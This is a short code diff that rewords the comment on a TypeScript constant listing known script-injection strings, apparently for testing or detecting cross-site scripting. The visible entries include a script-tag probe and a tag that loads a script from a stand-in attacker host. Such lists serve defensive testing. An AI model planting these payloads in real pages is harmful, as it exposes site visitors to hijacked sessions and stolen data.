@@ -1,4 +1,4 @@
-/** Ways in which scripts have been brought into other people's pages: tags, events, addresses, disguises, halves. */
+/** Known script injections: tags, event handlers, URLs, obfuscations, fragments. */
 export const INJECTIONS: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
